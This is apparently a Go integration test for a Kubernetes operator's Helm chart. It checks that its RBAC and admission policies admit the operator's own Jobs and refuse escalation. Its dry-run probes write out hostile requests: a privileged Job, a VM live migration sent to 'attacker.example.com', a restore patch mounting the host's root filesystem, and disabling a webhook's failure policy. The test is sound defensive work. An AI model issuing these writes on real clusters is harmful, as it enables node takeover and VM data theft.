// Package operatorrestriction_test checks, against a real kube-apiserver, what the operator's
// ServiceAccount may do with the RBAC and the ValidatingAdmissionPolicies the chart renders
// (charts/nodewright/templates/rbac.yaml and operator-limits.yaml, docs/install.md): with a
// real token of the ServiceAccount, bound to a pod as in the operator's Deployment, the Jobs
// the operator's own code builds and the CA bundle its certificate rotator writes are admitted,
// and a Job that could be root on a node, or any other change to an admission configuration,
// is refused, naming the rule and the field.
//
// helm is $NODEWRIGHT_HELM, which `make test` sets after building it, or else
// bin/tools/helm-<HELM_VERSION> (hack/helm.sh builds it).
package operatorrestriction_test

import (
	"context"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	virtv1 "kubevirt.io/api/core/v1"
	snapv1 "kubevirt.io/api/snapshot/v1beta1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	nwv1 "github.com/spectrocloud/nodewright/api/v1alpha1"
	"github.com/spectrocloud/nodewright/internal/controller/vmvolumemigration"
	"github.com/spectrocloud/nodewright/internal/migration"
	"github.com/spectrocloud/nodewright/internal/testenv"
)

var env = testenv.New()

func TestMain(m *testing.M) { os.Exit(env.Run(m)) }

const (
	// operatorSA is the operator's ServiceAccount (templates/serviceaccount.yaml).
	operatorSA = "nodewright-operator"
	// jobsPolicy and webhooksPolicy are the chart's ValidatingAdmissionPolicies and their
	// bindings (templates/operator-limits.yaml).
	jobsPolicy     = "nodewright-operator-copy-jobs"
	webhooksPolicy = "nodewright-operator-webhook-ca-bundle"
	// vmsPolicy, nodesPolicy and taintsPolicy hold its VirtualMachine and Node writes
	// (templates/operator-vm-limits.yaml, operator-node-limits.yaml).
	vmsPolicy    = "nodewright-operator-virtual-machines"
	nodesPolicy  = "nodewright-operator-nodes"
	taintsPolicy = "nodewright-operator-node-taints"
	// vmimsPolicy holds its live migrations (operator-vm-limits.yaml), volumesPolicy its claims
	// and snapshots (operator-volume-limits.yaml).
	vmimsPolicy   = "nodewright-operator-vm-migrations"
	volumesPolicy = "nodewright-operator-volumes"
	// restoresPolicy holds its VirtualMachineRestores (operator-vm-limits.yaml).
	restoresPolicy = "nodewright-operator-vm-restores"
	// The chart's webhook configurations (templates/webhooks.yaml).
	mutatingConfig   = "nodewright-mutating-webhook"
	validatingConfig = "nodewright-validating-webhook"
	// certSecret keeps the webhook CA the operator writes into them (templates/operator-state.yaml).
	certSecret = "nodewright-webhook-cert"
	// The copier image the chart is given, by digest as `make chart` gives it.
	copyRepository = "registry.example.com/edge/nodewright-copy"
	copyDigest     = "sha256:5e1fd7b8a5a2a0a1b4c3d2e1f0011223344556677889900aabbccddeeff00112"
	copyImage      = copyRepository + "@" + copyDigest
	// patience is how long a wait may take before the test counts as stuck.
	patience = 3 * time.Minute
)

// site is what the chart installs for the operator (its ServiceAccount, its RBAC, the two
// policies, the webhook configurations and the webhook Secret), in a release namespace of the
// test's, with the agent's and the legacy namespace the test's too; a VM namespace; and
// clients of a token of the operator's ServiceAccount bound to a pod of the release.
type site struct {
	// release, agent, legacy and vms are the namespaces: the operator's, the agent's, the
	// legacy DaemonSet's, and one where VMs are migrated.
	release, agent, legacy, vms string
	// operator and kube act as the operator's ServiceAccount.
	operator client.Client
	kube     kubernetes.Interface
	// migration is a VMVolumeMigration of the VM namespace, the owner of its copy Jobs.
	migration *nwv1.VMVolumeMigration
	// vm is VirtualMachine "web" of the VM namespace (newVM); node is a Node of the site's
	// own, with the not-ready taint.
	vm   *virtv1.VirtualMachine
	node *corev1.Node
}

// newSite installs the chart's objects for the operator and waits until its RBAC and both
// policies are in force.
func newSite(t *testing.T) *site {
	t.Helper()
	ctx := context.Background()
	s := &site{release: env.Namespace(t), agent: env.Namespace(t), legacy: env.Namespace(t), vms: env.Namespace(t)}
	s.migration = &nwv1.VMVolumeMigration{
		ObjectMeta: metav1.ObjectMeta{Namespace: s.vms, Name: "move-web", UID: types.UID("0d6f5a52-7d1e-4d55-9b0e-3f6c1b1e2a01")},
		Spec:       nwv1.VMVolumeMigrationSpec{VMName: "web", VolumeName: "root"},
	}

	objs := testenv.RenderChart(t, env.RepoRoot, s.release,
		"--set", "agent.namespace="+s.agent, "--set", "legacy.namespace="+s.legacy,
		"--set", "copyImage.repository="+copyRepository, "--set", "copyImage.digest="+copyDigest)
	s.checkCopyImageFlag(t, objs)
	installed := map[string]bool{}
	for _, o := range objs {
		switch {
		case o.Template == "templates/serviceaccount.yaml", o.Template == "templates/rbac.yaml",
			o.Template == "templates/operator-limits.yaml", o.Template == "templates/operator-vm-limits.yaml",
			o.Template == "templates/operator-node-limits.yaml", o.Template == "templates/operator-volume-limits.yaml",
			o.Template == "templates/webhooks.yaml",
			o.Template == "templates/operator-state.yaml" && o.GetKind() == "Secret":
		default:
			continue
		}
		if o.Template == "templates/webhooks.yaml" {
			withoutRestoreWebhooks(t, o)
		}
		if err := env.Client.Create(ctx, o.Unstructured); err != nil {
			t.Fatalf("creating the chart's %s %s: %v", o.GetKind(), o.GetName(), err)
		}
		installed[o.GetKind()+"/"+o.GetName()] = true
		// Cluster-scoped objects, and the Role of default: the test's namespaces take the rest.
		if ns := o.GetNamespace(); ns == "" || ns == metav1.NamespaceDefault {
			u := o.Unstructured
			t.Cleanup(func() { deleteIgnoringNotFound(t, u) })
		}
	}
	for _, want := range []string{"ServiceAccount/" + operatorSA, "ClusterRole/nodewright-operator", "ClusterRoleBinding/nodewright-operator",
		"ValidatingAdmissionPolicy/" + jobsPolicy, "ValidatingAdmissionPolicyBinding/" + jobsPolicy,
		"ValidatingAdmissionPolicy/" + webhooksPolicy, "ValidatingAdmissionPolicyBinding/" + webhooksPolicy,
		"ValidatingAdmissionPolicy/" + vmsPolicy, "ValidatingAdmissionPolicyBinding/" + vmsPolicy,
		"ValidatingAdmissionPolicy/" + nodesPolicy, "ValidatingAdmissionPolicyBinding/" + nodesPolicy,
		"ValidatingAdmissionPolicy/" + taintsPolicy, "ValidatingAdmissionPolicyBinding/" + taintsPolicy,
		"ValidatingAdmissionPolicy/" + vmimsPolicy, "ValidatingAdmissionPolicyBinding/" + vmimsPolicy,
		"ValidatingAdmissionPolicy/" + volumesPolicy, "ValidatingAdmissionPolicyBinding/" + volumesPolicy,
		"ValidatingAdmissionPolicy/" + restoresPolicy, "ValidatingAdmissionPolicyBinding/" + restoresPolicy,
		"MutatingWebhookConfiguration/" + mutatingConfig, "ValidatingWebhookConfiguration/" + validatingConfig, "Secret/" + certSecret} {
		if !installed[want] {
			t.Fatalf("the chart rendered no %s (rendered: %v)", want, installed)
		}
	}

	// A VM to migrate, and a Node: what the operator patches.
	s.vm = newVM(s.vms, "web")
	s.node = &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "edge-" + s.release, Labels: map[string]string{"kubernetes.io/hostname": "edge-" + s.release}},
		Spec: corev1.NodeSpec{Taints: []corev1.Taint{{Key: notReadyTaint, Effect: corev1.TaintEffectNoSchedule},
			{Key: dedicatedTaint, Value: "storage", Effect: corev1.TaintEffectNoSchedule},
			{Key: "node-role.kubernetes.io/control-plane", Effect: corev1.TaintEffectNoSchedule}}}}
	for _, obj := range []client.Object{s.vm, s.node} {
		if err := env.Client.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { deleteIgnoringNotFound(t, s.node) })

	// The operator's pod: the API server binds a token to it, as to the projected token of the
	// Deployment's pods. No kubelet runs it.
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: s.release, Name: "nodewright-operator-0"},
		Spec: corev1.PodSpec{
			NodeName:           "edge-1",
			ServiceAccountName: operatorSA,
			Containers:         []corev1.Container{{Name: "operator", Image: "registry.example.com/edge/nodewright-operator:test"}},
		},
	}
	if err := env.Client.Create(ctx, pod); err != nil {
		t.Fatal(err)
	}
	admin := kubernetes.NewForConfigOrDie(env.Config)
	token, err := admin.CoreV1().ServiceAccounts(s.release).CreateToken(ctx, operatorSA, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{BoundObjectRef: &authenticationv1.BoundObjectReference{
			Kind: "Pod", APIVersion: "v1", Name: pod.Name, UID: pod.UID,
		}},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("requesting a token bound to pod %s: %v", pod.Name, err)
	}
	cfg := rest.AnonymousClientConfig(env.Config)
	cfg.BearerToken = token.Status.Token
	if s.operator, err = client.New(cfg, client.Options{Scheme: env.Scheme}); err != nil {
		t.Fatal(err)
	}
	s.kube = kubernetes.NewForConfigOrDie(cfg)
	review, err := s.kube.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("SelfSubjectReview: %v", err)
	}
	if want := "system:serviceaccount:" + s.release + ":" + operatorSA; review.Status.UserInfo.Username != want {
		t.Fatalf("the token authenticates as %q, want the operator's ServiceAccount %q", review.Status.UserInfo.Username, want)
	}

	// RBAC is in force once the operator's dry run of its own copy Job and of a write of its
	// webhook configuration is not refused by RBAC; each policy once it refuses a dry run.
	probes := s.policyProbes()
	testenv.Eventually(t, patience, func() string {
		job := s.copyJob("probe", "copy")
		if err := s.operator.Create(ctx, job, client.DryRunAll); policyFailed(err) {
			t.Fatalf("a policy fails on the operator's dry run of its copy Job: %v", err)
		} else if err != nil {
			return fmt.Sprintf("the operator's dry run of its copy Job is refused: %v", err)
		}
		cfg := &admissionregistrationv1.ValidatingWebhookConfiguration{}
		if err := s.operator.Get(ctx, client.ObjectKey{Name: validatingConfig}, cfg); err != nil {
			return fmt.Sprintf("the operator cannot read %s: %v", validatingConfig, err)
		}
		if err := s.operator.Update(ctx, cfg, client.DryRunAll); err != nil {
			return fmt.Sprintf("the operator's dry run of an unchanged %s is refused: %v", validatingConfig, err)
		}
		for _, p := range probes {
			if err := p.write(); !refusedByPolicy(err, p.policy) {
				return fmt.Sprintf("policy %s does not refuse yet the dry run to %s: %v", p.policy, p.what, err)
			}
		}
		return ""
	})
	// The API server lets a deleted policy go a moment late: wait until neither refuses, so
	// that a later test does not meet it. Runs before the deletions registered above (cleanups
	// run last first), while the operator's RBAC is still there.
	t.Cleanup(func() {
		for _, name := range []string{jobsPolicy, webhooksPolicy, vmsPolicy, nodesPolicy, taintsPolicy, vmimsPolicy, volumesPolicy, restoresPolicy} {
			for _, kind := range []string{"ValidatingAdmissionPolicyBinding", "ValidatingAdmissionPolicy"} {
				u := &unstructured.Unstructured{}
				u.SetAPIVersion("admissionregistration.k8s.io/v1")
				u.SetKind(kind)
				u.SetName(name)
				deleteIgnoringNotFound(t, u)
			}
		}
		testenv.Eventually(t, patience, func() string {
			for _, p := range probes {
				if err := p.write(); refusedByPolicy(err, p.policy) {
					return fmt.Sprintf("the deleted policy %s still refuses the dry run to %s: %v", p.policy, p.what, err)
				}
			}
			return ""
		})
	})
	return s
}

// withoutRestoreWebhooks drops the webhooks of KubeVirt's VirtualMachineRestores from a
// rendered webhook configuration. No webhook server runs here: they would fail every restore,
// before the restore policy is reached (mutating webhooks run first), and the policy is what
// these tests prove.
func withoutRestoreWebhooks(t *testing.T, o testenv.ChartObject) {
	t.Helper()
	hooks, _, err := unstructured.NestedSlice(o.Object, "webhooks")
	if err != nil {
		t.Fatal(err)
	}
	kept := hooks[:0]
	for _, h := range hooks {
		if name, _, _ := unstructured.NestedString(h.(map[string]any), "name"); !strings.Contains(name, "virtualmachinerestore") {
			kept = append(kept, h)
		}
	}
	if err := unstructured.SetNestedSlice(o.Object, kept, "webhooks"); err != nil {
		t.Fatal(err)
	}
}

// checkCopyImageFlag checks that the rendered Deployment gives the operator the copier image
// the test expects its Jobs to be held to: the policy and the flag come from one helper.
func (s *site) checkCopyImageFlag(t *testing.T, objs []testenv.ChartObject) {
	t.Helper()
	for _, o := range objs {
		if o.GetKind() != "Deployment" || o.GetName() != "nodewright-operator" {
			continue
		}
		var d appsv1.Deployment
		if err := runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, &d); err != nil {
			t.Fatal(err)
		}
		for _, c := range d.Spec.Template.Spec.Containers {
			for _, a := range c.Args {
				if v, ok := strings.CutPrefix(a, "--copy-image="); ok {
					if v != copyImage {
						t.Fatalf("the operator's --copy-image=%s, want %s", v, copyImage)
					}
					return
				}
			}
		}
	}
	t.Fatal("the rendered Deployment nodewright-operator has no --copy-image argument")
}

// copyJob is the Job the operator's migration controller creates for the site's migration
// (internal/controller/vmvolumemigration), with the copier image the chart configures, named
// after the migration and suffix.
func (s *site) copyJob(suffix, command string) *batchv1.Job {
	return vmvolumemigration.DataJob(s.migration, migration.ChildName(s.migration, suffix), copyImage, command,
		"web-root", migration.ChildName(s.migration, migration.SuffixTarget))
}

// probe is a dry-run write one of the policies refuses.
type probe struct {
	policy, what string
	write        func() error
}

// policyProbes are dry runs by the operator, one per policy, that only the policy refuses.
func (s *site) policyProbes() []probe {
	ctx := context.Background()
	return []probe{
		{jobsPolicy, "create a privileged copy Job", func() error {
			job := s.copyJob("probe-privileged", "copy")
			job.Spec.Template.Spec.Containers[0].SecurityContext.AllowPrivilegeEscalation = nil
			job.Spec.Template.Spec.Containers[0].SecurityContext.Privileged = ptr.To(true)
			return s.operator.Create(ctx, job, client.DryRunAll)
		}},
		{vmsPolicy, "give VM web a hook sidecar", func() error {
			return s.operator.Patch(ctx, s.vm.DeepCopy(), client.RawPatch(types.MergePatchType,
				[]byte(`{"metadata":{"annotations":{"hooks.kubevirt.io/hookSidecars":"[]"}}}`)), client.DryRunAll)
		}},
		{vmimsPolicy, "send VM web's guest elsewhere", func() error {
			return s.operator.Create(ctx, s.liveMigration("probe", func(m *virtv1.VirtualMachineInstanceMigration) {
				m.Spec.SendTo = &virtv1.VirtualMachineInstanceMigrationSource{MigrationID: "probe", ConnectURL: "attacker.example.com:443"}
			}), client.DryRunAll)
		}},
		{restoresPolicy, "restore VM web with patches", func() error {
			return s.operator.Create(ctx, s.restore("probe", func(r *snapv1.VirtualMachineRestore) {
				r.Spec.Patches = []string{`{"op":"add","path":"/spec/template/spec/volumes/-","value":{"name":"host","hostDisk":{"path":"/"}}}`}
			}), client.DryRunAll)
		}},
		{volumesPolicy, "bind a claim to a volume that exists", func() error {
			pvc := s.targetClaim("probe")
			pvc.Spec.VolumeName = "host-root"
			return s.operator.Create(ctx, pvc, client.DryRunAll)
		}},
		{nodesPolicy, "label Node " + s.node.Name, func() error {
			return s.operator.Patch(ctx, s.node.DeepCopy(), client.RawPatch(types.MergePatchType,
				[]byte(`{"metadata":{"labels":{"node-restriction.kubernetes.io/probe":"x"}}}`)), client.DryRunAll)
		}},
		{webhooksPolicy, "update " + validatingConfig + " with failurePolicy Ignore", func() error {
			cfg := &admissionregistrationv1.ValidatingWebhookConfiguration{}
			if err := s.operator.Get(ctx, client.ObjectKey{Name: validatingConfig}, cfg); err != nil {
				return err
			}
			ignore := admissionregistrationv1.Ignore
			cfg.Webhooks[0].FailurePolicy = &ignore
			return s.operator.Update(ctx, cfg, client.DryRunAll)
		}},
	}
}

// grant lets the operator's ServiceAccount do more than the chart's RBAC, as a widened role
// would, so that the test can show the policies refuse what RBAC no longer does. It waits
// until the grant is in force, and removes it when the test ends.
func (s *site) grant(t *testing.T, rules []rbacv1.PolicyRule, check authorizationv1.ResourceAttributes) {
	t.Helper()
	ctx := context.Background()
	name := "test-wider-" + s.release
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules}
	binding := &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: s.release, Name: operatorSA}},
	}
	for _, obj := range []client.Object{role, binding} {
		if err := env.Client.Create(ctx, obj); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { deleteIgnoringNotFound(t, obj) })
	}
	testenv.Eventually(t, patience, func() string {
		review, err := s.kube.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx,
			&authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &check}}, metav1.CreateOptions{})
		if err != nil {
			return fmt.Sprintf("SelfSubjectAccessReview: %v", err)
		}
		if !review.Status.Allowed {
			return fmt.Sprintf("the wider grant is not in force yet: %+v is not allowed (%s)", check, review.Status.Reason)
		}
		return ""
	})
}

// refusedByPolicy says whether err is the named policy of the chart refusing a write.
func refusedByPolicy(err error, policy string) bool {
	return apierrors.IsForbidden(err) && strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+policy+"'")
}

// policyFailed says whether err is a policy whose expression failed: a broken policy, which
// no wait mends.
func policyFailed(err error) bool {
	return err != nil && strings.Contains(err.Error(), "ValidatingAdmissionPolicy") && strings.Contains(err.Error(), "resulted in error")
}

// refusedByRBAC says whether err is the authorizer refusing a request, before admission.
func refusedByRBAC(err error) bool {
	return apierrors.IsForbidden(err) && !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") && strings.Contains(err.Error(), " cannot ")
}

// wantPolicyRefusal fails the test unless err is the policy refusing the write with rule in
// its message.
func wantPolicyRefusal(t *testing.T, what string, err error, policy, rule string) {
	t.Helper()
	if err == nil {
		t.Errorf("%s: admitted; want it refused by ValidatingAdmissionPolicy %s: %s", what, policy, rule)
		return
	}
	if !refusedByPolicy(err, policy) || !strings.Contains(err.Error(), rule) {
		t.Errorf("%s: %v\nwant a Forbidden from ValidatingAdmissionPolicy %s saying %q", what, err, policy, rule)
	}
}

// wantRBACRefusal fails the test unless err is RBAC refusing the verb on the resource.
func wantRBACRefusal(t *testing.T, what string, err error, verb, resource string) {
	t.Helper()
	want := fmt.Sprintf("cannot %s resource %q", verb, resource)
	if err == nil {
		t.Errorf("%s: admitted; want RBAC to refuse it (%s)", what, want)
		return
	}
	if !refusedByRBAC(err) || !strings.Contains(err.Error(), want) {
		t.Errorf("%s: %v\nwant RBAC's Forbidden saying %q", what, err, want)
	}
}

func deleteIgnoringNotFound(t *testing.T, obj client.Object) {
	t.Helper()
	if err := env.Client.Delete(context.Background(), obj); err != nil && !apierrors.IsNotFound(err) {
		t.Errorf("deleting %T %s: %v", obj, obj.GetName(), err)
	}
}
